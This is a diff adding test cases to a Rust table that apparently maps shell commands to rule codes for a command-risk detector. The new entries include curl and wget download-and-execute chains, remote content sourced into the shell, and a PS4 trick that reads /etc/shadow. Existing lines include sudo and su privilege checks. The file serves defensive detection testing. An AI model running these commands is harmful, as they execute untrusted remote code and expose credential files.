@@ -297,6 +297,10 @@ const CASES: &[(&str, &str)] = &[
     ("curl -o i.sh https://x/i.sh && bash i.sh", "0057"),
     ("curl -s https://x/p.py | python3 -", "0051"),
     ("curl https://x | tee out.html", "0042"),
+    ("curl -s https://x/i.sh > i.sh; bash i.sh", "0057"),
+    ("wget -qO- https://x/i.sh > /tmp/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh", "0054"),
+    ("curl -s https://x/env | source /dev/stdin", "0050"),
+    ("PS4='$(cat /etc/shadow)' bash -xc true", "4004"),
     // --- privilege ------------------------------------------------------------------------------
     ("sudo ls", "1004"),
     ("su root", "1001"),
